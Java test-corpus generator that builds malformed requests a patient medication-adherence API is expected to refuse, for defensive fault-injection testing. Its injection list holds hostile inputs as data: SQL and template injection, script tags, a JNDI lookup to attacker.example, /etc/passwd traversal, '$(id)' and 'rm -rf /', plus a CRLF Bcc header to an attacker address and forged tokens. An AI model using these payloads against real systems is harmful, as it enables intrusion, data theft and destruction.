package org.adherence.fault;

import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;

import org.adherence.contracts.json.ContractJson;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;
import tools.jackson.databind.node.StringNode;

/**
 * A corpus of requests that CONTRACT.md says must be refused, each with a {@code 4xx} problem detail and nothing
 * published: every body a mutation of a valid one (a value of the wrong type, a number too large or negative, nesting
 * too deep, a body cut short or too large, bytes that are not UTF-8, a key twice, a field missing or one the contract
 * does not name, a null element, an injection string where only a code, an id or a time may stand), ids and paths
 * no patient or alert can have, methods and media types the API does not take. Generated from a seed: the same seed
 * gives the same corpus, byte for byte but for the event ids and times (made fresh, so that each request would be
 * accepted if its fault were not there).
 * <p>
 * A request names who sends it ({@link Auth}) and may hold {@link #PATIENT} or {@link #ALERT} in its target, which the
 * runner replaces with a patient the sender may write for and an alert id of the right form that no alert has.
 */
final class BadRequests {

    /** In a target: a patient the request's sender may write for. */
    static final String PATIENT = "{patient}";

    /** In a target: an alert id of the right form that no alert has. */
    static final String ALERT = "{alert}";

    enum Service { INTAKE, NOTIFICATION }

    /** Who sends a request: the corpus is about bodies and URLs, not tokens (the OWASP matrix is). */
    enum Auth {
        /** A patient app's token for the patient in the target. */
        PATIENT_APP,
        /** A care team's token of the clinic that enrolled the corpus's patient. */
        CARE_TEAM,
        /** A care team's token (scope care-team:read) of a clinic, for the delivery log. */
        CARE_TEAM_READ,
        NONE
    }

    record BadRequest(String kind, Service service, Auth auth, String method, String target,
                      Map<String, String> headers, byte[] body) {

        @Override
        public String toString() {
            String shown = target.length() > 120 ? target.substring(0, 120) + "...(" + target.length() + ")" : target;
            return kind + " " + method + " " + shown + " (" + body.length + " bytes)";
        }
    }

    private static final String MARK = "\u2063mark\u2063";

    private static final String DOSES_PATH = "/api/v1/patients/" + PATIENT + "/doses";

    private static final String SYMPTOMS_PATH = "/api/v1/patients/" + PATIENT + "/symptoms";

    private static final String BATCH_PATH = "/api/v1/patients/" + PATIENT + "/events:batch";

    private static final String PROFILE_PATH = "/api/v1/patients/" + PATIENT;

    private static final List<String> WRONG_TEXT = List.of("123", "-1", "1.5", "true", "false", "[]", "{}",
            "[\"x\"]", "{\"a\":\"b\"}");

    private static final List<String> WRONG_NUMBER = List.of("\"5\"", "\"\"", "\"ten\"", "true", "false", "[]", "{}",
            "[10]", "{\"mg\":10}");

    private static final List<String> WRONG_INTEGER = List.of("\"3\"", "\"\"", "true", "[]", "{}", "[3]", "3.5");

    private static final List<String> WRONG_LIST = List.of("\"EPILEPSY\"", "1", "true", "{}", "{\"0\":\"A\"}");

    private static final List<String> WRONG_OBJECT = List.of("\"x\"", "1", "true", "[]");

    private static final List<String> BAD_DOSES = List.of("-1", "-0.5", "0", "-0", "0.0", "0.0001", "10000.001",
            "10001", "1e308", "1e309", "-1e308", "1E+999999999", "1e-999999999", "123456789012345678901234567890");

    private static final List<String> BAD_TIMES_PER_DAY = List.of("-1", "0", "25", "2.9", "2147483648",
            "-2147483649", "9223372036854775808", "1e3", "1e308", "3.0000000001");

    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "\"; DROP TABLE patients; --",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "{{7*7}}", "../../etc/passwd",
            "\r\nX-Injected: 1", "$(id)", "#{7*7}", "\u0000", "%00", "; rm -rf /");

    private static final List<byte[]> NOT_UTF8 = List.of(
            new byte[] {(byte) 0xC0, (byte) 0xAF},                           // an overlong '/'
            new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},  // above U+10FFFF
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},               // a UTF-16 surrogate, encoded
            new byte[] {(byte) 0x80},                                         // a continuation byte alone
            new byte[] {(byte) 0xE2, (byte) 0x82},                            // cut short
            new byte[] {(byte) 0xFF},
            new byte[] {(byte) 0xFE, (byte) 0xFF},
            new byte[] {(byte) 0xC3, (byte) 0x28},                            // a lead byte before ASCII
            new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}); // a five-byte form

    private static final List<String> BAD_PATH_IDS = List.of("p%001", "p%2F1", "p%5C1", "p%FF1", "p%C0%AF",
            "p%25", "p%3B1", "p;x=1", "p%0A1", "p%0D%0A1", "p%221", "p%3Cb%3E", "p%7F", "p%201", "p+1", "p*",
            "p'1", "p%27%20OR%201%3D1", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "p%E2%80%AE1", "p~1", "p@1", "p%2C1");

    private static final List<String> WRONG_METHODS = List.of("GET", "DELETE", "PATCH", "TRACE", "PROPFIND", "FOO");

    private final Random random;

    private final List<BadRequest> corpus = new ArrayList<>();

    private BadRequests(long seed) {
        this.random = new Random(seed);
    }

    /** The corpus of a seed. */
    static List<BadRequest> generate(long seed) {
        BadRequests generator = new BadRequests(seed);
        generator.intake();
        generator.notification();
        return List.copyOf(generator.corpus);
    }

    // ------------------------------------------------------------------------------------------------ intake

    private void intake() {
        for (Endpoint endpoint : Endpoint.values()) {
            for (Field field : endpoint.fields) {
                wrongTypes(endpoint, field);
                if (field.required) {
                    add("missing-field", endpoint, endpoint.remove(field.path));
                    add("null-field", endpoint, endpoint.replace(field.path, "null"));
                }
                add("duplicate-key", endpoint, endpoint.duplicate(field.path, null));
                add("duplicate-key", endpoint, endpoint.duplicate(field.path, field.otherValue()));
                if (field.type == Type.TEXT) {
                    byte[] notUtf8 = NOT_UTF8.get(random.nextInt(NOT_UTF8.size()));
                    add("invalid-utf8", endpoint, endpoint.insertBytes(field.path, notUtf8, random));
                }
            }
            extraFields(endpoint);
            truncated(endpoint);
            notJson(endpoint);
            deepNesting(endpoint);
            wrongMethods(endpoint);
            wrongMediaTypes(endpoint);
            oversized(endpoint);
        }
        numbers();
        nullElements();
        injections();
        tooLong();
        pathIds();
        unknownPaths();
    }

    private void wrongTypes(Endpoint endpoint, Field field) {
        List<String> values = switch (field.type) {
            case TEXT -> WRONG_TEXT;
            case NUMBER -> WRONG_NUMBER;
            case INTEGER -> WRONG_INTEGER;
            case LIST -> WRONG_LIST;
            case OBJECT -> WRONG_OBJECT;
        };
        for (String value : values) {
            add("wrong-type", endpoint, endpoint.replace(field.path, value));
        }
    }

    private void extraFields(Endpoint endpoint) {
        List<String> objects = new ArrayList<>(List.of(""));
        endpoint.fields.stream().filter(f -> f.type == Type.OBJECT).forEach(f -> objects.add(f.path));
        for (String object : objects) {
            for (String name : List.of("clinicId", "patientId", "schemaVersion", "__proto__", "unknown")) {
                add("extra-field", endpoint, endpoint.addField(object, name, "\"clinic-of-the-attacker\""));
            }
        }
        // a misspelt optional field would otherwise be dropped, the request read without it
        add("extra-field", endpoint, endpoint.addField("", "Note", "\"x\""));
    }

    private void truncated(Endpoint endpoint) {
        byte[] whole = endpoint.valid().getBytes(StandardCharsets.UTF_8);
        for (int i = 0; i < 8; i++) {
            int cut = 1 + random.nextInt(whole.length - 1);
            add("truncated", endpoint, java.util.Arrays.copyOf(whole, cut));
        }
        add("truncated", endpoint, new byte[0]);
        // a body shorter than its Content-Length: the connection ends before the rest
        int cut = whole.length / 2;
        corpus.add(new BadRequest("truncated", Service.INTAKE, endpoint.auth(random), endpoint.method,
                endpoint.target, headers("Content-Type", "application/json", "Content-Length",
                String.valueOf(whole.length)), java.util.Arrays.copyOf(whole, cut)));
        // a chunked body cut inside a chunk
        corpus.add(new BadRequest("truncated", Service.INTAKE, endpoint.auth(random), endpoint.method,
                endpoint.target, headers("Content-Type", "application/json", "Transfer-Encoding", "chunked"),
                (Integer.toHexString(whole.length) + "\r\n" + new String(whole, 0, cut, StandardCharsets.UTF_8))
                        .getBytes(StandardCharsets.UTF_8)));
    }

    private void notJson(Endpoint endpoint) {
        for (String body : List.of("null", "[]", "0", "\"x\"", "true", "{", "}", "{]", "{'drug':'baclofen'}", "NaN",
                "{\"doseMg\":NaN}", "{\"a\":1,}", "<xml/>", "eventId=1&drug=baclofen", endpoint.valid() + "}",
                endpoint.valid() + " {}", "\uFEFF{")) {
            add("not-json", endpoint, body.getBytes(StandardCharsets.UTF_8));
        }
        byte[] garbage = new byte[64];
        random.nextBytes(garbage);
        add("not-json", endpoint, garbage);
    }

    private void deepNesting(Endpoint endpoint) {
        String deepField = endpoint.fields.get(random.nextInt(endpoint.fields.size())).path;
        for (int depth : new int[] {17, 64, 1000, 50_000}) {
            add("deep-nesting", endpoint, endpoint.replace(deepField, "[".repeat(depth) + "]".repeat(depth)));
            add("deep-nesting", endpoint, endpoint.addField("", "deep",
                    "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)));
        }
    }

    private void wrongMethods(Endpoint endpoint) {
        for (String method : WRONG_METHODS) {
            byte[] body = method.equals("GET") || method.equals("TRACE") ? new byte[0]
                    : endpoint.valid().getBytes(StandardCharsets.UTF_8);
            corpus.add(new BadRequest("wrong-method", Service.INTAKE, endpoint.auth(random), method, endpoint.target,
                    headers("Content-Type", "application/json"), body));
        }
        String other = endpoint.method.equals("PUT") ? "POST" : "PUT";
        corpus.add(new BadRequest("wrong-method", Service.INTAKE, endpoint.auth(random), other, endpoint.target,
                headers("Content-Type", "application/json"), endpoint.valid().getBytes(StandardCharsets.UTF_8)));
    }

    private void wrongMediaTypes(Endpoint endpoint) {
        String valid = endpoint.valid();
        Map<String, byte[]> types = new LinkedHashMap<>();
        types.put("text/plain", valid.getBytes(StandardCharsets.UTF_8));
        types.put("application/xml", valid.getBytes(StandardCharsets.UTF_8));
        types.put("application/x-www-form-urlencoded", valid.getBytes(StandardCharsets.UTF_8));
        types.put("multipart/form-data; boundary=x", ("--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n"
                + valid + "\r\n--x--\r\n").getBytes(StandardCharsets.UTF_8));
        types.put("application/octet-stream", valid.getBytes(StandardCharsets.UTF_8));
        types.put("text/json", valid.getBytes(StandardCharsets.UTF_8));
        types.put("application/json;charset=UTF-16", valid.getBytes(StandardCharsets.UTF_16));
        types.put("application/json;charset=ISO-8859-1", valid.getBytes(StandardCharsets.ISO_8859_1));
        types.put("application/json;charset=no-such-charset", valid.getBytes(StandardCharsets.UTF_8));
        types.put("", valid.getBytes(StandardCharsets.UTF_8));
        types.forEach((type, body) -> corpus.add(new BadRequest("wrong-media-type", Service.INTAKE,
                endpoint.auth(random), endpoint.method, endpoint.target,
                type.isEmpty() ? headers() : headers("Content-Type", type), body)));
        // an answer the client cannot take: refused before anything is published (a profile's 202 has no body to
        // negotiate, so only the events)
        for (String accept : endpoint == Endpoint.PROFILE ? List.<String>of()
                : List.of("application/xml", "text/html", "image/png")) {
            corpus.add(new BadRequest("wrong-media-type", Service.INTAKE, endpoint.auth(random), endpoint.method,
                    endpoint.target, headers("Content-Type", "application/json", "Accept", accept),
                    valid.getBytes(StandardCharsets.UTF_8)));
        }
    }

    private void oversized(Endpoint endpoint) {
        // more than adherence.intake.max-body-size (2 MB): a valid body padded with spaces, declared and chunked
        byte[] valid = endpoint.valid().getBytes(StandardCharsets.UTF_8);
        byte[] padded = new byte[2 * 1024 * 1024 + 1];
        java.util.Arrays.fill(padded, (byte) ' ');
        System.arraycopy(valid, 0, padded, 0, valid.length);
        corpus.add(new BadRequest("oversized", Service.INTAKE, endpoint.auth(random), endpoint.method,
                endpoint.target, headers("Content-Type", "application/json"), padded));
        ByteArrayOutputStream chunked = new ByteArrayOutputStream();
        for (int at = 0; at < padded.length; at += 65_536) {
            int length = Math.min(65_536, padded.length - at);
            chunked.writeBytes((Integer.toHexString(length) + "\r\n").getBytes(StandardCharsets.US_ASCII));
            chunked.write(padded, at, length);
            chunked.writeBytes("\r\n".getBytes(StandardCharsets.US_ASCII));
        }
        chunked.writeBytes("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        corpus.add(new BadRequest("oversized", Service.INTAKE, endpoint.auth(random), endpoint.method,
                endpoint.target, headers("Content-Type", "application/json", "Transfer-Encoding", "chunked"),
                chunked.toByteArray()));
        // a declared length far beyond it, with no body to read
        corpus.add(new BadRequest("oversized", Service.INTAKE, endpoint.auth(random), endpoint.method,
                endpoint.target, headers("Content-Type", "application/json", "Content-Length", "9999999999"),
                valid));
    }

    private void numbers() {
        for (String value : BAD_DOSES) {
            add("huge-or-negative-number", Endpoint.DOSE, Endpoint.DOSE.replace("doseMg", value));
            add("huge-or-negative-number", Endpoint.PROFILE, Endpoint.PROFILE.replace("prescriptions[0].doseMg",
                    value));
        }
        add("huge-or-negative-number", Endpoint.BATCH, Endpoint.BATCH.replace("doses[0].doseMg",
                BAD_DOSES.get(random.nextInt(BAD_DOSES.size()))));
        for (String value : BAD_TIMES_PER_DAY) {
            add("huge-or-negative-number", Endpoint.PROFILE, Endpoint.PROFILE.replace("prescriptions[0].timesPerDay",
                    value));
        }
        // times out of range: more than 30 days ago, more than 5 minutes ahead, no offset, no such day
        OffsetDateTime now = OffsetDateTime.now(ZoneOffset.UTC).truncatedTo(ChronoUnit.SECONDS);
        for (String time : List.of(now.minusDays(31).toString(), now.plusMinutes(30).toString(),
                now.plusYears(200).toString(), "0000-01-01T00:00:00Z", "+999999999-12-31T23:59:59Z",
                "2026-11-24T08:00:00", "2026-02-30T08:00:00+01:00", "2026-11-24T25:00:00+01:00",
                "2026-11-24T08:00:00+19:00", "2026-11-24")) {
            add("bad-value", Endpoint.DOSE, Endpoint.DOSE.replace("takenAt", quote(time)));
            add("bad-value", Endpoint.SYMPTOM, Endpoint.SYMPTOM.replace("observedAt", quote(time)));
        }
        for (String date : List.of(now.plusDays(2).toLocalDate().toString(), "1979-02-30", "1979-13-01", "1979",
                "14.03.1979", "+1000000000-01-01")) {
            add("bad-value", Endpoint.PROFILE, Endpoint.PROFILE.replace("birthDate", quote(date)));
        }
        add("bad-value", Endpoint.PROFILE, Endpoint.PROFILE.replace("prescriptions[0].endDate", "\"2026-10-01\""));
        for (String zone : List.of("Mars/Olympus_Mons", "+25:00", "", "GMT+99", "Europe/Nowhere")) {
            add("bad-value", Endpoint.PROFILE, Endpoint.PROFILE.replace("timeZone", quote(zone)));
        }
        for (String email : List.of("plainaddress", "@clinic.example", "a@b@c.example", "reminder-1|neuro@c.example",
                "neuro@clinic.example\r\nBcc: x@attacker.example")) {
            add("bad-value", Endpoint.PROFILE, Endpoint.PROFILE.replace("careTeam[0].email", quote(email)));
        }
        // a care team of caregivers only: a CRITICAL alert's reminders would go to no clinician
        add("bad-value", Endpoint.PROFILE, Endpoint.PROFILE.replace("careTeam[0].role", "\"CAREGIVER\""));
        add("bad-value", Endpoint.BATCH, "{\"doses\":[],\"symptoms\":[]}".getBytes(StandardCharsets.UTF_8));
        add("bad-value", Endpoint.BATCH, "{}".getBytes(StandardCharsets.UTF_8));
        add("bad-value", Endpoint.SYMPTOM, Endpoint.SYMPTOM.replace("symptoms", "[]"));
        add("bad-value", Endpoint.DOSE, Endpoint.DOSE.replace("drug", "\"aspirin\""));
        add("bad-value", Endpoint.DOSE, Endpoint.DOSE.replace("drug", "\"\""));
        add("bad-value", Endpoint.DOSE, Endpoint.DOSE.replace("drug", "\"   \""));
        add("bad-value", Endpoint.DOSE, Endpoint.DOSE.replace("eventId", "\"" + UUID.randomUUID() + "-1\""));
        add("bad-value", Endpoint.DOSE, Endpoint.DOSE.replace("eventId", "\"{" + UUID.randomUUID() + "}\""));
    }

    private void nullElements() {
        add("null-element", Endpoint.SYMPTOM, Endpoint.SYMPTOM.replace("symptoms", "[null]"));
        add("null-element", Endpoint.SYMPTOM, Endpoint.SYMPTOM.replace("symptoms", "[\"DIZZINESS\",null]"));
        add("null-element", Endpoint.PROFILE, Endpoint.PROFILE.replace("careTeam",
                "[null," + Endpoint.PROFILE.node("careTeam[0]") + "]"));
        add("null-element", Endpoint.PROFILE, Endpoint.PROFILE.replace("prescriptions", "[null]"));
        add("null-element", Endpoint.PROFILE, Endpoint.PROFILE.replace("conditions", "[\"EPILEPSY\",null]"));
        add("null-element", Endpoint.PROFILE, Endpoint.PROFILE.replace("coMedications", "[null]"));
        add("null-element", Endpoint.BATCH, Endpoint.BATCH.replace("doses", "[null]"));
        add("null-element", Endpoint.BATCH, Endpoint.BATCH.replace("symptoms",
                "[" + Endpoint.BATCH.node("symptoms[0]") + ",null]"));
    }

    private void injections() {
        List<Object[]> targets = List.of(
                new Object[] {Endpoint.DOSE, "eventId"}, new Object[] {Endpoint.DOSE, "takenAt"},
                new Object[] {Endpoint.DOSE, "drug"}, new Object[] {Endpoint.SYMPTOM, "symptoms[0]"},
                new Object[] {Endpoint.SYMPTOM, "observedAt"}, new Object[] {Endpoint.PROFILE, "timeZone"},
                new Object[] {Endpoint.PROFILE, "birthDate"}, new Object[] {Endpoint.PROFILE, "careTeam[0].role"},
                new Object[] {Endpoint.PROFILE, "careTeam[1].email"}, new Object[] {Endpoint.PROFILE,
                        "conditions[0]"}, new Object[] {Endpoint.PROFILE, "coMedications[0]"},
                new Object[] {Endpoint.PROFILE, "prescriptions[0].startDate"},
                new Object[] {Endpoint.BATCH, "doses[0].eventId"});
        for (Object[] target : targets) {
            Endpoint endpoint = (Endpoint) target[0];
            for (int i = 0; i < 3; i++) {
                add("injection", endpoint, endpoint.replace((String) target[1],
                        quote(INJECTIONS.get(random.nextInt(INJECTIONS.size())))));
            }
        }
        for (String injection : INJECTIONS) {
            corpus.add(new BadRequest("injection", Service.INTAKE, Auth.CARE_TEAM, "POST",
                    "/api/v1/patients/" + URLEncoder.encode(injection, StandardCharsets.UTF_8).replace("+", "%20")
                            + "/doses", headers("Content-Type", "application/json"),
                    Endpoint.DOSE.valid().getBytes(StandardCharsets.UTF_8)));
        }
    }

    private void tooLong() {
        add("oversized", Endpoint.SYMPTOM, Endpoint.SYMPTOM.replace("note", quote("n".repeat(501))));
        add("oversized", Endpoint.SYMPTOM, Endpoint.SYMPTOM.replace("note", quote("\u00e9".repeat(100_000))));
        add("oversized", Endpoint.DOSE, Endpoint.DOSE.replace("drug", quote("b".repeat(65))));
        add("oversized", Endpoint.DOSE, Endpoint.DOSE.replace("eventId", quote("a".repeat(65_536))));
        add("oversized", Endpoint.PROFILE, Endpoint.PROFILE.replace("careTeam[0].name", quote("N".repeat(201))));
        add("oversized", Endpoint.PROFILE, Endpoint.PROFILE.replace("careTeam[0].email",
                quote("a".repeat(250) + "@clinic.example")));
        add("oversized", Endpoint.SYMPTOM, Endpoint.SYMPTOM.replace("symptoms",
                "[" + String.join(",", java.util.Collections.nCopies(51, "\"DIZZINESS\"")) + "]"));
        add("oversized", Endpoint.PROFILE, Endpoint.PROFILE.replace("careTeam",
                "[" + String.join(",", java.util.Collections.nCopies(51, Endpoint.PROFILE.node("careTeam[0]"))) + "]"));
        add("oversized", Endpoint.PROFILE, Endpoint.PROFILE.replace("prescriptions",
                "[" + String.join(",", java.util.Collections.nCopies(21, Endpoint.PROFILE.node("prescriptions[0]")))
                        + "]"));
        // one item more than a batch may hold (1000), each of them valid
        List<String> doses = new ArrayList<>();
        for (int i = 0; i < 1001; i++) {
            doses.add(Endpoint.DOSE.valid());
        }
        add("oversized", Endpoint.BATCH, ("{\"doses\":[" + String.join(",", doses) + "]}")
                .getBytes(StandardCharsets.UTF_8));
        // a thousand valid items and one bad: nothing of the batch is published
        doses.set(1000, Endpoint.DOSE.valid().replace("\"baclofen\"", "\"aspirin\""));
        doses.set(random.nextInt(1000), new String(Endpoint.DOSE.replace("doseMg", "-10"), StandardCharsets.UTF_8));
        add("bad-value", Endpoint.BATCH, ("{\"doses\":[" + String.join(",", doses.subList(1, 1001)) + "]}")
                .getBytes(StandardCharsets.UTF_8));
    }

    private void pathIds() {
        Map<String, String> ids = new LinkedHashMap<>();
        BAD_PATH_IDS.forEach(id -> ids.put(id, "bad-path-character"));
        for (int length : new int[] {65, 200, 1000, 7000, 10_000, 70_000}) {
            ids.put("p".repeat(length), "long-or-non-ascii-id");
        }
        for (String nonAscii : List.of("p\u00e4tient", "\u60a3\u8005", "p\uD83D\uDE00", "p\u0301", "\u0440-1")) {
            ids.put(URLEncoder.encode(nonAscii, StandardCharsets.UTF_8), "long-or-non-ascii-id");
        }
        ids.forEach((id, kind) -> {
            // each id at about half of the endpoints, which ones chosen by the seed
            for (Endpoint endpoint : Endpoint.values()) {
                if (random.nextInt(Endpoint.values().length) < 2) {
                    corpus.add(new BadRequest(kind, Service.INTAKE, Auth.CARE_TEAM, endpoint.method,
                            endpoint.target.replace(PATIENT, id), headers("Content-Type", "application/json"),
                            endpoint.valid().getBytes(StandardCharsets.UTF_8)));
                }
            }
        });
        // without a token: refused before any controller, by a problem that still names the path by its start only
        for (int length : new int[] {1000, 7000}) {
            corpus.add(new BadRequest("long-or-non-ascii-id", Service.INTAKE, Auth.NONE, "POST",
                    "/api/v1/patients/" + "p".repeat(length) + "/doses", headers("Content-Type", "application/json"),
                    Endpoint.DOSE.valid().getBytes(StandardCharsets.UTF_8)));
            notificationRequest("alert-id", Auth.NONE, "GET", "/api/v1/alerts/" + "a".repeat(length), headers(),
                    new byte[0]);
        }
        // non-ASCII bytes as they are, not escaped, in the request line
        corpus.add(new BadRequest("long-or-non-ascii-id", Service.INTAKE, Auth.CARE_TEAM, "POST",
                new String("/api/v1/patients/p\u00e4/doses".getBytes(StandardCharsets.UTF_8),
                        StandardCharsets.ISO_8859_1), headers("Content-Type", "application/json"),
                Endpoint.DOSE.valid().getBytes(StandardCharsets.UTF_8)));
    }

    private void unknownPaths() {
        for (String path : List.of("/api/v1/patients/" + PATIENT + "/unknown", "/api/v2/patients/" + PATIENT
                + "/doses", "/api/v1/patients", "/api/v1/patients/", "/api/v1/patients/" + PATIENT + "/doses/1",
                "/api/v1/patients/" + PATIENT + "/events:delete", "/api", "/", "/actuator/env", "/actuator/heapdump")) {
            corpus.add(new BadRequest("unknown-path", Service.INTAKE, Auth.CARE_TEAM, "POST", path,
                    headers("Content-Type", "application/json"),
                    Endpoint.DOSE.valid().getBytes(StandardCharsets.UTF_8)));
        }
    }

    // ------------------------------------------------------------------------------------------ notification

    private void notification() {
        List<String> ids = new ArrayList<>(BAD_PATH_IDS);
        ids.add("a%20b");
        ids.add("a".repeat(65));
        ids.add("a".repeat(5000));
        ids.add(URLEncoder.encode("\u60a3\u8005-alert", StandardCharsets.UTF_8));
        for (String injection : INJECTIONS) {
            ids.add(URLEncoder.encode(injection, StandardCharsets.UTF_8).replace("+", "%20"));
        }
        for (String id : ids) {
            notificationRequest("alert-id", Auth.CARE_TEAM_READ, "GET", "/api/v1/alerts/" + id, headers(),
                    new byte[0]);
        }
        for (int i = 0; i < 5; i++) {
            // an id of the right form no alert has: 404, as another clinic's alert (the OWASP matrix)
            notificationRequest("unknown-alert", Auth.CARE_TEAM_READ, "GET", "/api/v1/alerts/" + randomId(),
                    headers(), new byte[0]);
        }
        for (String method : List.of("POST", "PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "FOO")) {
            notificationRequest("wrong-method", Auth.CARE_TEAM_READ, method, "/api/v1/alerts/" + ALERT,
                    headers("Content-Type", "application/json"), "{}".getBytes(StandardCharsets.UTF_8));
            notificationRequest("wrong-method", Auth.NONE, method, "/api/v1/alerts/" + ALERT + "/ack?token=x",
                    headers("Content-Type", "application/x-www-form-urlencoded"), new byte[0]);
        }
        List<String> tokens = new ArrayList<>(List.of("", "x", "a.b", "a.b.c", "..", "%00", "%FF",
                "x".repeat(10_000)));
        for (int i = 0; i < 6; i++) {
            tokens.add(randomBase64(20 + random.nextInt(60)) + "." + randomBase64(32));
        }
        // made as the service makes them, signed with another key: forged
        String payload = ALERT + "\n" + "p-1\nneuro@clinic.example\n" + (System.currentTimeMillis() / 1000 + 3600);
        tokens.add(Base64.getUrlEncoder().withoutPadding().encodeToString(payload.getBytes(StandardCharsets.UTF_8))
                + "." + randomBase64(32));
        for (String token : tokens) {
            String query = token.isEmpty() ? "" : "?token=" + token;
            notificationRequest("ack-link", Auth.NONE, "GET", "/api/v1/alerts/" + ALERT + "/ack" + query, headers(),
                    new byte[0]);
            notificationRequest("ack-link", Auth.NONE, "POST", "/api/v1/alerts/" + ALERT + "/ack",
                    headers("Content-Type", "application/x-www-form-urlencoded"),
                    ("token=" + token).getBytes(StandardCharsets.UTF_8));
        }
        for (String type : List.of("application/json", "text/plain", "multipart/form-data; boundary=x",
                "application/xml")) {
            notificationRequest("wrong-media-type", Auth.NONE, "POST", "/api/v1/alerts/" + ALERT + "/ack",
                    headers("Content-Type", type), "{\"token\":\"x\"}".getBytes(StandardCharsets.UTF_8));
        }
        notificationRequest("truncated", Auth.NONE, "POST", "/api/v1/alerts/" + ALERT + "/ack",
                headers("Content-Type", "application/x-www-form-urlencoded", "Content-Length", "400"),
                "token=abc".getBytes(StandardCharsets.UTF_8));
        byte[] form = new byte[3 * 1024 * 1024];
        java.util.Arrays.fill(form, (byte) 'a');
        System.arraycopy("token=".getBytes(StandardCharsets.UTF_8), 0, form, 0, 6);
        notificationRequest("oversized", Auth.NONE, "POST", "/api/v1/alerts/" + ALERT + "/ack",
                headers("Content-Type", "application/x-www-form-urlencoded"), form);
        for (String path : List.of("/api/v1/alert", "/api/v1/alerts/", "/api/v2/alerts/" + ALERT, "/api/v1/alerts/"
                + ALERT + "/emails", "/", "/actuator/env", "/actuator/heapdump")) {
            notificationRequest("unknown-path", Auth.CARE_TEAM_READ, "GET", path, headers(), new byte[0]);
        }
        // the clinic's list of alerts (the care console's inbox) with a filter that cannot be one
        for (String query : List.of("status=closed", "severity=URGENT", "rule=NO_SUCH_RULE", "patientId=a%2Fb",
                "limit=0", "limit=100000", "limit=ten")) {
            notificationRequest("bad-filter", Auth.CARE_TEAM_READ, "GET", "/api/v1/alerts?" + query, headers(),
                    new byte[0]);
        }
        // ids in the delivery log's path that Tomcat itself refuses, with every method
        for (String id : List.of("a%00", "a%2Fb", "a%5Cb", "a%FF", "p".repeat(10_000))) {
            notificationRequest("bad-path-character", Auth.NONE, "POST", "/api/v1/alerts/" + id + "/ack",
                    headers("Content-Type", "application/x-www-form-urlencoded"),
                    "token=x".getBytes(StandardCharsets.UTF_8));
        }
    }

    private void notificationRequest(String kind, Auth auth, String method, String target, Map<String, String> headers,
                                     byte[] body) {
        Map<String, String> all = new LinkedHashMap<>(headers);
        // a client that reads JSON: the acknowledgement pages answer browsers with HTML
        all.put("Accept", "application/json");
        corpus.add(new BadRequest(kind, Service.NOTIFICATION, auth, method, target, all, body));
    }

    // ------------------------------------------------------------------------------------------------ helpers

    private void add(String kind, Endpoint endpoint, byte[] body) {
        corpus.add(new BadRequest(kind, Service.INTAKE, endpoint.auth(random), endpoint.method, endpoint.target,
                headers("Content-Type", "application/json"), body));
    }

    private String randomId() {
        return new UUID(random.nextLong(), random.nextLong()).toString();
    }

    private String randomBase64(int bytes) {
        byte[] raw = new byte[bytes];
        random.nextBytes(raw);
        return Base64.getUrlEncoder().withoutPadding().encodeToString(raw);
    }

    private static Map<String, String> headers(String... namesAndValues) {
        Map<String, String> headers = new LinkedHashMap<>();
        for (int i = 0; i < namesAndValues.length; i += 2) {
            headers.put(namesAndValues[i], namesAndValues[i + 1]);
        }
        return headers;
    }

    private static String quote(String text) {
        return ContractJson.mapper().writeValueAsString(text);
    }

    enum Type { TEXT, NUMBER, INTEGER, LIST, OBJECT }

    /** A field of a valid body; {@code required}: the request is refused without it (or with it null). */
    record Field(String path, Type type, boolean required) {

        /** A second value of the field's own type, for a key given twice with two values. */
        String otherValue() {
            return switch (type) {
                case TEXT -> "\"other\"";
                case NUMBER -> "50";
                case INTEGER -> "4";
                case LIST -> "[]";
                case OBJECT -> "{}";
            };
        }
    }

    /** The four writes of intake, each with a valid body to mutate and its fields. */
    enum Endpoint {
        DOSE("POST", DOSES_PATH, List.of(
                new Field("eventId", Type.TEXT, true), new Field("drug", Type.TEXT, true),
                new Field("doseMg", Type.NUMBER, true), new Field("takenAt", Type.TEXT, true))),
        SYMPTOM("POST", SYMPTOMS_PATH, List.of(
                new Field("eventId", Type.TEXT, true), new Field("symptoms", Type.LIST, true),
                new Field("observedAt", Type.TEXT, true), new Field("note", Type.TEXT, false))),
        BATCH("POST", BATCH_PATH, List.of(
                new Field("doses", Type.LIST, false), new Field("symptoms", Type.LIST, false),
                new Field("doses[0]", Type.OBJECT, false), new Field("symptoms[0]", Type.OBJECT, false),
                new Field("doses[0].eventId", Type.TEXT, true), new Field("doses[0].doseMg", Type.NUMBER, true),
                new Field("symptoms[0].symptoms", Type.LIST, true),
                new Field("symptoms[0].observedAt", Type.TEXT, true))),
        PROFILE("PUT", PROFILE_PATH, List.of(
                new Field("birthDate", Type.TEXT, true), new Field("timeZone", Type.TEXT, true),
                new Field("careTeam", Type.LIST, true), new Field("careTeam[0]", Type.OBJECT, false),
                new Field("careTeam[0].name", Type.TEXT, true), new Field("careTeam[0].email", Type.TEXT, true),
                new Field("careTeam[0].role", Type.TEXT, true), new Field("careTeam[1].role", Type.TEXT, true),
                new Field("prescriptions", Type.LIST, false), new Field("prescriptions[0]", Type.OBJECT, false),
                new Field("prescriptions[0].drug", Type.TEXT, true),
                new Field("prescriptions[0].doseMg", Type.NUMBER, true),
                new Field("prescriptions[0].timesPerDay", Type.INTEGER, true),
                new Field("prescriptions[0].startDate", Type.TEXT, true),
                new Field("prescriptions[0].endDate", Type.TEXT, false),
                new Field("conditions", Type.LIST, false), new Field("coMedications", Type.LIST, false)));

        final String method;

        final String target;

